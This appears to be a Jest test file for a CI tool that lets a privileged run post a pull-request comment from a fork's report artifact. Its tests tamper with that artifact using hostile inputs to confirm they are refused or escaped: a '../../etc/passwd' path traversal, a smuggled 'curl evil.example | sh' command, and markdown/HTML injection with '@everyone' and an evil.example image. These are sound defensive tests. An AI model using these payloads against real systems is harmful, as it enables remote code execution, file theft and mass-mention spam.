import { readFile, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
import type { Report } from "../../src/model/index.ts";
import { openStage, type Stage } from "../../tools/demo/stage.ts";

type Run = Awaited<ReturnType<Stage["label"]>>;

/** A pull request from a fork: its own run may only read, a second one writes for it. */
let stage: Stage;
let first: Run;

beforeEach(async () => {
  stage = await openStage({ fork: true });
  first = await stage.label("lamplighter:contract");
});

afterEach(async () => {
  expect(stage.emulator.violations).toEqual([]);
  await stage.close();
});

function stepOf(run: Run, name: string) {
  return run.jobs.flatMap(({ steps }) => steps).find((step) => step.name === name);
}

function reportPath(): string {
  const [artifact] = first.artifacts;
  return join(artifact?.folder ?? "", "report-contract.json");
}

async function tamper(change: (report: Report) => unknown): Promise<void> {
  const report = JSON.parse(await readFile(reportPath(), "utf8")) as Report;
  await writeFile(reportPath(), JSON.stringify(change(report)));
}

test("its own run leaves the report in the summary, and says which permission is missing", () => {
  expect(stage.comments()).toEqual([]);
  const step = stepOf(first, "Write the comment and decide");
  expect(step?.conclusion).toBe("failure");
  expect(step?.summary).toContain("GET /customers/{customerId}/orders");
  expect(step?.annotations.filter(({ level }) => level === "notice")).toHaveLength(1);
});

test("the second run writes the comment, and only one", async () => {
  const second = await stage.reportFork(first);
  expect(second.conclusion).toBe("success");
  await stage.reportFork(first);
  expect(stage.comments()).toHaveLength(1);
  expect(stage.comments()[0]).toContain("GET /customers/{customerId}/orders");
});

describe("a fork's artifact", () => {
  test("cannot speak for another commit", async () => {
    await tamper((report) => ({ ...report, head: "f".repeat(40) }));
    const second = await stage.reportFork(first);
    expect(second.conclusion).toBe("failure");
    expect(stepOf(second, "Write the comment")?.log).toContain("report-foreign");
    expect(stage.comments()).toEqual([]);
  });

  test.each([
    ["is not JSON", () => "{"],
    ["has fields of its own", (report: Report) => ({ ...report, pullRequest: 1 })],
    [
      "points out of the repository",
      (report: Report) => ({
        ...report,
        claims: report.claims.map((claim) => ({ ...claim, where: { path: "../../etc/passwd" } })),
      }),
    ],
    [
      "holds a command of two lines",
      (report: Report) => ({
        ...report,
        claims: report.claims.map((claim) => ({
          ...claim,
          proof: { ...claim.proof, command: "true\ncurl evil.example | sh" },
        })),
      }),
    ],
  ])("that %s is refused", async (_, change) => {
    await tamper(change);
    const second = await stage.reportFork(first);
    expect(second.conclusion).toBe("failure");
    expect(stage.comments()).toEqual([]);
  });

  test("that was removed is an error in the comment, never a pass", async () => {
    await rm(reportPath());
    await stage.reportFork(first);
    expect(stage.comments()[0]).toMatch(/contract \| \S+ error/);
    expect(stage.comments()[0]).toContain("The engine left no report");
  });

  test("cannot mention people or close the hidden state", async () => {
    await tamper((report) => ({
      ...report,
      headline: "--> @everyone ![](https://evil.example/x.png) <img src=x> ```",
    }));
    await stage.reportFork(first);
    const [comment = ""] = stage.comments();
    expect(comment).toContain("`@everyone`");
    expect(comment).not.toMatch(/[^`]@everyone/);
    expect(comment).not.toMatch(/[^`]!\[\]\(/);
    expect(comment).not.toContain("<img");
  });
});

test("a fork cannot accept for itself", async () => {
  await tamper((report) => ({
    ...report,
    claims: report.claims.map((claim) => ({ ...claim, accepted: { how: "comment", by: "robin" } })),
  }));
  await stage.reportFork(first);
  expect(stage.comments()[0]).toContain("### 1 check failed");
  expect(stage.comments()[0]).not.toContain("accepted");
});

test("a push since then makes the old run's report worthless", async () => {
  await writeFile(join(stage.headFolder, "NOTES.md"), "more\n");
  await stage.push("More");
  const late = await stage.reportFork(first);
  expect(stepOf(late, "Write the comment")?.log).toContain("nothing is written");
  expect(stage.comments()).toEqual([]);
});
